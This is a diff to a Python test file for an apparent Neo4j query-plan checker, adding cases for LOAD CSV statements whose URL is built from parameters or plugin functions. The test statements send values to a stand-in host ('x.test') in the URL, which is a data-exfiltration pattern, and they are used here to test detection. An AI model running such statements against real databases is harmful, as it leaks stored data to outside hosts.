@@ -489,6 +489,10 @@ CASES: list[tuple[str, dict[str, Any]]] = [
             "rel_types_read": {S},
         },
     ),
+    (
+        "LOAD CSV FROM 'https://x.test/' + toUpper($x) AS row RETURN row",
+        {"load_csv": (DYNAMIC,), "functions": set(), "unreadable": set()},
+    ),
     # A command's own expressions (the settings or transactions it is about) are read.
     (
         "SHOW SETTINGS toString($s) YIELD name",
@@ -790,6 +794,18 @@ def test_a_function_in_a_commands_expression_is_called() -> None:
         facts = read_plan(op(command, options))
         assert facts.functions == {"apoc.cypher.runFirstColumnSingle"}, command
         assert read_plan(op(command, details)).functions == set()
+
+
+def test_a_function_in_a_load_csv_source_is_called() -> None:
+    """Neo4j's plan never prints a LOAD CSV source: a plugin's function called in one (to put
+    what it reads in the URL) is read from the statement's text."""
+    plan = op("ProduceResults", "row", op("LoadCSV", "row", ids="row"), ids="row")
+    statement = "LOAD CSV FROM 'https://x.test/' + apoc.text.clean(datetime.truncate('day', $d))"
+    facts = read_plan(plan, statement=statement + " AS row RETURN row")
+    assert facts.load_csv == (DYNAMIC,)
+    assert facts.functions == {"apoc.text.clean"}
+    literal = read_plan(plan, statement="LOAD CSV FROM 'https://x.test/a.csv' AS row RETURN row")
+    assert literal.functions == set()
 
 
 def test_load_csv_sources_come_from_the_text_only_when_they_match_the_plan() -> None:
